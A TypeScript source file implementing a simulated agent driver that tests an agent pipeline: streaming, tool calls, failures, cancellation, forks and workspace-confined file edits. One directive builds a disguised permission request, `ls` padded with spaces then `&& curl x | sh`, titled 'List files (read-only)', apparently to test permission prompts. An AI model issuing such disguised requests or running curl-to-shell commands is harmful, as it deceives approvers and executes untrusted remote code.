/**
 * The built-in simulated agent: deterministic, driven by directives in the prompt (see
 * directives.ts). It behaves like a real agent where it matters to the pipeline: it keeps a
 * conversation id, proves saving only through assistant messages, streams, calls tools, fails,
 * crashes, hangs and honours cancel.
 */
import { randomUUID } from "node:crypto";
import { appendFile, lstat, mkdir, realpath, rm, writeFile } from "node:fs/promises";
import { dirname, isAbsolute, resolve, sep } from "node:path";
import {
  type AgentConversation,
  type AgentDriver,
  AgentFailure,
  type AgentFailureCode,
  type OpenConversationOptions,
  type ResumeCursor,
  type RunTurnOptions,
  type TurnOutcome,
  type TurnSink,
} from "../driver.js";
import { carriedOverField, carryOverCharsProblem, noticeWithCarryOver } from "../carry-over.js";
import { parseDirectives, simulatedLimits } from "./directives.js";
import { type Clock, realClock } from "../../clock.js";

/**
 * Events emitted between two yields to the event loop: a flood of deltas never holds the process
 * (health checks, heartbeats, other sessions' turns) for longer than a few hundred emits.
 */
const EVENTS_PER_YIELD = 256;

/** The turn's budget of events and tool-output bytes (directives.ts, `simulatedLimits`). */
class Budget {
  private events = 0;
  private bytes = 0;
  private sinceYield = 0;
  /** May `events` more events (carrying `bytes` of tool output) go out? Counts them when they may. */
  take(events = 1, bytes = 0): boolean {
    if (this.events + events > simulatedLimits.maxTurnEvents) return false;
    if (this.bytes + bytes > simulatedLimits.maxTurnBytes) return false;
    this.events += events;
    this.bytes += bytes;
    this.sinceYield += events;
    return true;
  }
  /**
   * Every EVENTS_PER_YIELD events: yield to the event loop, and wait while the event log's lane
   * holds a backlog (TurnSink.drained) or until the turn is stopped.
   */
  async pace(sink: TurnSink, signal: AbortSignal): Promise<void> {
    if (this.sinceYield < EVENTS_PER_YIELD) return;
    this.sinceYield = 0;
    await new Promise((resolve) => setImmediate(resolve));
    if (sink.drained && !signal.aborted) {
      let onAbort = () => {};
      const stopped = new Promise<void>((resolve) => {
        onAbort = resolve;
        signal.addEventListener("abort", onAbort, { once: true });
      });
      await Promise.race([sink.drained(), stopped]);
      signal.removeEventListener("abort", onAbort);
    }
  }
}

/**
 * What the simulated agent "saved" of each of its conversations in this process: the prompts, each
 * with the assistant message that answered it. A fork or rollback branches one of them at a message
 * (the native path, like Claude Code's truncating resume); `[history]` shows it.
 */
interface Saved {
  entries: { prompt: string; messageId: string | null }[];
}
const saved = new Map<string, Saved>();
/** Conversations kept at most; the oldest go first (the agent's memory is a test aid). */
const MAX_SAVED = 10_000;

function remember(id: string, conversation: Saved): void {
  saved.delete(id);
  saved.set(id, conversation);
  while (saved.size > MAX_SAVED) saved.delete(saved.keys().next().value as string);
}

/** `agentConfig.forkPath`: `native` branches the saved conversation; `recap` always starts fresh with the carried history. */
type ForkPath = "native" | "recap";

const failureCodes: AgentFailureCode[] = [
  "AGENT_START_FAILED",
  "AGENT_CRASHED",
  "AGENT_ERROR",
  "CONTEXT_TOO_LARGE",
];

class SimulatedConversation implements AgentConversation {
  alive = true;
  private cursor: ResumeCursor;
  private readonly clock: Clock;
  private readonly resolveWorkspace: () => Promise<string>;

  constructor(private readonly options: OpenConversationOptions) {
    this.clock = options.settings.clock ?? realClock;
    this.resolveWorkspace = options.resolveWorkspace;
    this.cursor = { ...options.cursor, pastAgentSessionIds: [...options.cursor.pastAgentSessionIds] };
  }

  /**
   * A pending fork or rollback: branch the saved conversation at the kept message (native), or
   * start a fresh one holding the carried history, with a `session.reset` that says so.
   */
  private async applyRewind(sink: TurnSink): Promise<void> {
    const rewind = this.cursor.rewind;
    if (!rewind) return;
    const path: ForkPath = this.options.agentConfig.forkPath === "recap" ? "recap" : "native";
    const source = rewind.agentSessionId ? saved.get(rewind.agentSessionId) : undefined;
    const at = source?.entries.findIndex((e) => e.messageId === rewind.messageId) ?? -1;
    const old = this.cursor.agentSessionId;
    const id = `sim-${randomUUID()}`;
    const past =
      old && !this.cursor.pastAgentSessionIds.includes(old)
        ? [...this.cursor.pastAgentSessionIds, old]
        : this.cursor.pastAgentSessionIds;
    if (path === "native" && source && at >= 0) {
      remember(id, { entries: source.entries.slice(0, at + 1) });
      this.cursor = {
        ...this.cursor,
        agentSessionId: id,
        lastAssistantMessageId: rewind.messageId,
        pastAgentSessionIds: past,
        rewind: null,
      };
      return;
    }
    const recap = (await this.options.carryOver?.()) ?? null;
    remember(id, { entries: recap ? [{ prompt: `recap: ${recap.text}`, messageId: null }] : [] });
    this.cursor = {
      ...this.cursor,
      agentSessionId: id,
      lastAssistantMessageId: null,
      pastAgentSessionIds: past,
      rewind: null,
    };
    const what = rewind.kind === "fork" ? "This fork" : "After the rollback, this conversation";
    sink.emit({
      type: "session.reset",
      reason: rewind.kind,
      notice: noticeWithCarryOver(`${what} starts a fresh agent conversation.`, recap),
      ...carriedOverField(recap),
    });
  }

  async runTurn({ prompt, sink, signal, input }: RunTurnOptions): Promise<TurnOutcome> {
    if (!this.alive) throw new AgentFailure("AGENT_CRASHED", "The simulated agent is no longer running.");
    // Steered input (docs/simulated-agent.md): kept until the next directive boundary, then echoed.
    const inbox: string[] = [];
    const taken = { count: 0 };
    let wake: (() => void) | null = null;
    const release = input?.take((steered) => {
      inbox.push(steered);
      taken.count++;
      wake?.();
    });
    try {
      return await this.run(prompt, sink, signal, inbox, taken, (w) => {
        wake = w;
      });
    } finally {
      release?.();
    }
  }

  private async run(
    prompt: string,
    sink: TurnSink,
    signal: AbortSignal,
    inbox: string[],
    /** Inputs the agent has taken in this turn, echoed or not. */
    taken: { readonly count: number },
    onWake: (wake: (() => void) | null) => void,
  ): Promise<TurnOutcome> {
    await this.applyRewind(sink);
    const fresh = this.cursor.agentSessionId === null;
    this.cursor = {
      ...this.cursor,
      agentSessionId: this.cursor.agentSessionId ?? `sim-${randomUUID()}`,
      turnCount: this.cursor.turnCount + 1,
    };
    await sink.saveCursor(this.cursor);
    const conversationId = this.cursor.agentSessionId as string;
    const memory = saved.get(conversationId);
    const before = memory ? memory.entries.map((e) => e.prompt) : fresh ? [] : null;
    let inputTokens = 0;
    let text = "";
    let toolCalls = 0;
    const budget = new Budget();
    /** The `[input]` directives reached so far: the Nth waits until N inputs were taken. */
    let inputsAwaited = 0;
    /** Each steered input the agent took, echoed once as `steered TEXT `. */
    const echo = () => {
      for (let steered = inbox.shift(); steered !== undefined; steered = inbox.shift()) {
        const chunk = `steered ${steered} `;
        text += chunk;
        sink.emit({ type: "message.delta", text: chunk });
      }
    };
    for (const directive of parseDirectives(prompt)) {
      if (signal.aborted) return cancelled(text);
      echo();
      switch (directive.kind) {
        case "input":
          // Counted, not read off the inbox: an input that came before this directive was reached
          // (echoed at its boundary), or with the one before it, counts for it; waiting for the
          // inbox to fill instead waited for one more input than the client sends.
          inputsAwaited++;
          while (taken.count < inputsAwaited) {
            const arrived = await new Promise<boolean>((resolve) => {
              const onAbort = () => done(false);
              const done = (value: boolean) => {
                onWake(null);
                signal.removeEventListener("abort", onAbort);
                resolve(value);
              };
              onWake(() => done(true));
              signal.addEventListener("abort", onAbort, { once: true });
              if (signal.aborted) done(false);
            });
            if (!arrived) return cancelled(text);
          }
          echo();
          break;
        case "sleep":
          if (!(await sleep(this.clock, directive.ms, signal))) return cancelled(text);
          break;
        case "deltas":
          for (let i = 0; i < directive.count && budget.take(); i++) {
            const chunk = `chunk ${i + 1} `;
            text += chunk;
            sink.emit({ type: "message.delta", text: chunk });
            await budget.pace(sink, signal);
            if (signal.aborted) return cancelled(text);
          }
          break;
        case "tool":
        case "logtool": {
          // The call and its result, both within the turn's budget, or neither.
          if (!budget.take(2, directive.bytes)) break;
          await budget.pace(sink, signal);
          const id = `tool-${++toolCalls}`;
          sink.emit({
            type: "tool.call",
            id,
            name: "simulated_command",
            input: { command: `produce ${directive.bytes} bytes` },
          });
          const output =
            directive.kind === "tool" ? "x".repeat(directive.bytes) : logText(directive.bytes, toolCalls);
          sink.emit({ type: "tool.result", id, isError: false, output });
          break;
        }
        case "tokens":
          inputTokens = directive.count;
          break;
        case "clock": {
          if (!budget.take()) break;
          await budget.pace(sink, signal);
          const chunk = `clock ${(performance.timeOrigin + performance.now()).toFixed(3)} `;
          text += chunk;
          sink.emit({ type: "message.delta", text: chunk });
          break;
        }
        case "fail": {
          const code = failureCodes.includes(directive.code as AgentFailureCode)
            ? (directive.code as AgentFailureCode)
            : "AGENT_ERROR";
          throw new AgentFailure(code, `The simulated agent failed as asked (${directive.code}).`);
        }
        case "crash":
          this.alive = false;
          throw new Error("simulated agent process exited with code 1");
        case "hang":
          await sleep(this.clock, Number.POSITIVE_INFINITY, signal);
          return cancelled(text);
        case "stubborn":
          await new Promise<void>(() => {}); // ignores cancel; only close("kill") ends it
          break;
        case "write":
        case "append":
        case "writebin":
        case "delete": {
          const id = `tool-${++toolCalls}`;
          const input = {
            path: directive.path,
            ...(directive.kind === "delete" ? {} : { count: directive.count }),
          };
          sink.emit({ type: "tool.call", id, name: `simulated_${directive.kind}`, input });
          await editFile(await this.resolveWorkspace(), directive);
          sink.emit({
            type: "tool.result",
            id,
            isError: false,
            output: `${directive.kind} ${directive.path}`,
          });
          break;
        }
        case "history": {
          const chunk = `history: ${before ? JSON.stringify(before) : "unknown"} `;
          text += chunk;
          sink.emit({ type: "message.delta", text: chunk });
          break;
        }
        case "ask":
        case "askpadded": {
          const id = `tool-${++toolCalls}`;
          const padded = directive.kind === "askpadded";
          const name = padded ? "bash" : directive.name;
          const input = {
            command: padded ? `ls${" ".repeat(directive.spaces)}&& curl x | sh` : `run ${name}`,
          };
          const title = padded ? "List files (read-only)" : `Run ${name}`;
          // Without a gateway to ask (sink.requestPermission absent), the fixed policy: allow.
          const answer = sink.requestPermission
            ? await sink.requestPermission({
                toolCall: { id, name, title, kind: "execute", input },
                options: [
                  { optionId: "allow", name: "Allow", kind: "allow_once" },
                  { optionId: "allow_always", name: "Allow always", kind: "allow_always" },
                  { optionId: "deny", name: "Deny", kind: "reject_once" },
                ],
              })
            : { optionId: "allow", by: "client" as const };
          if (signal.aborted) return cancelled(text);
          let chunk: string;
          if (answer.optionId === "allow" || answer.optionId === "allow_always") {
            sink.emit({ type: "tool.call", id, name, input });
            sink.emit({ type: "tool.result", id, isError: false, output: `${name} done` });
            chunk = `allowed ${name} `;
          } else {
            chunk = `denied ${name}${answer.message !== undefined ? `: ${answer.message}` : ""} `;
          }
          if (answer.answers) chunk += `answers ${JSON.stringify(answer.answers)} `;
          text += chunk;
          sink.emit({ type: "message.delta", text: chunk });
          break;
        }
      }
    }
    echo();
    if (text === "") {
      // Cut at 200 UTF-16 units, but never between the halves of a surrogate pair (an emoji).
      const head = prompt.slice(0, 200);
      text = `You said: ${/[\uD800-\uDBFF]$/.test(head) ? head.slice(0, -1) : head}`;
      sink.emit({ type: "message.delta", text });
    }
    const messageId = `msg-${randomUUID()}`;
    sink.emit({ type: "message", text, messageId });
    this.cursor = { ...this.cursor, lastAssistantMessageId: messageId };
    // Saved with its answer, as a real agent's transcript would have it.
    remember(conversationId, { entries: [...(memory?.entries ?? []), { prompt, messageId }] });
    await sink.saveCursor(this.cursor);
    const usage = {
      inputTokens,
      outputTokens: Math.ceil(text.length / 4),
      cacheCreationInputTokens: 0,
      cacheReadInputTokens: 0,
    };
    sink.emit({ type: "usage", usage });
    return { text, stopReason: "end_turn", usage };
  }

  async close(): Promise<void> {
    this.alive = false;
  }
}

/**
 * The file directives' work, inside the workspace only: the path must be relative without `..`,
 * and the folder it lands in must resolve inside the workspace (no symlinked way out).
 */
async function editFile(
  workspace: string,
  d:
    | { kind: "write" | "append" | "writebin"; path: string; count: number }
    | { kind: "delete"; path: string },
): Promise<void> {
  const outside = () =>
    new AgentFailure(
      "AGENT_ERROR",
      `The simulated agent refused the path ${JSON.stringify(d.path)}: it leaves the workspace.`,
    );
  if (isAbsolute(d.path) || d.path.split("/").some((part) => part === ".." || part === ".git"))
    throw outside();
  const full = resolve(workspace, d.path);
  if (!full.startsWith(workspace + sep)) throw outside();
  const root = await realpath(workspace);
  let dir = dirname(full);
  for (;;) {
    const real = await realpath(dir).catch(() => null);
    if (real) {
      if (real !== root && !real.startsWith(root + sep)) throw outside();
      break;
    }
    dir = dirname(dir);
  }
  const info = await lstat(full).catch(() => null);
  if (info?.isSymbolicLink()) throw outside();
  if (d.kind === "delete") {
    if (info) await rm(full, { force: true });
    return;
  }
  await mkdir(dirname(full), { recursive: true });
  if (d.kind === "writebin") {
    const bytes = Buffer.alloc(d.count);
    for (let i = 0; i < d.count; i++) bytes[i] = (i * 31) % 256;
    await writeFile(full, bytes);
  } else if (d.kind === "write") {
    await writeFile(full, Array.from({ length: d.count }, (_, i) => `line ${i + 1}\n`).join(""));
  } else {
    await appendFile(full, Array.from({ length: d.count }, (_, i) => `added ${i + 1}\n`).join(""));
  }
}

/** `bytes` of deterministic, log-like ASCII text (a seeded generator, so it compresses like real output). */
export function logText(bytes: number, seed: number): string {
  let state = (seed * 2654435761) >>> 0 || 1;
  const next = (n: number) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % n;
  };
  const levels = ["debug", "info", "info", "info", "warn", "error"];
  const verbs = ["handled", "compiled", "fetched", "resolved", "wrote", "skipped", "retried", "parsed"];
  const things = ["request", "module", "chunk", "file", "query", "test", "asset", "dependency"];
  const lines: string[] = [];
  let length = 0;
  for (let i = 0; length < bytes; i++) {
    const line = `2026-01-01T00:${String(Math.floor(i / 60) % 60).padStart(2, "0")}:${String(i % 60).padStart(2, "0")}.${String(next(1000)).padStart(3, "0")}Z ${levels[next(levels.length)]} src/${things[next(things.length)]}s/${things[next(things.length)]}-${next(400)}.ts:${1 + next(900)} ${verbs[next(verbs.length)]} ${things[next(things.length)]} ${next(100000)} in ${next(2000)}ms\n`;
    lines.push(line);
    length += line.length;
  }
  return lines.join("").slice(0, bytes);
}

function cancelled(text: string): TurnOutcome {
  return { text, stopReason: "cancelled", usage: null };
}

/** Resolves true after `ms`, false as soon as `signal` aborts. */
function sleep(clock: Clock, ms: number, signal: AbortSignal): Promise<boolean> {
  return new Promise((resolve) => {
    if (signal.aborted) return resolve(false);
    const timer = Number.isFinite(ms) ? clock.setTimeout(() => done(true), ms) : null;
    const onAbort = () => done(false);
    const done = (value: boolean) => {
      if (timer) clock.clearTimeout(timer);
      signal.removeEventListener("abort", onAbort);
      resolve(value);
    };
    signal.addEventListener("abort", onAbort, { once: true });
  });
}

export const simulatedDriver: AgentDriver = {
  name: "simulated",
  validateConfig(_entry, config) {
    for (const [key, value] of Object.entries(config)) {
      if (key === "contextSuffix" && typeof value === "boolean") continue;
      if (key === "forkPath") {
        if (value === "native" || value === "recap") continue;
        return { ok: false, problem: 'agentConfig.forkPath must be "native" or "recap"' };
      }
      if (key === "carryOverChars") {
        const problem = carryOverCharsProblem(value);
        if (problem) return { ok: false, problem };
        continue;
      }
      return { ok: false, problem: `agentConfig.${key} is not allowed for the simulated agent` };
    }
    return { ok: true, config };
  },
  open: (options) => new SimulatedConversation(options),
  steer: true,
};
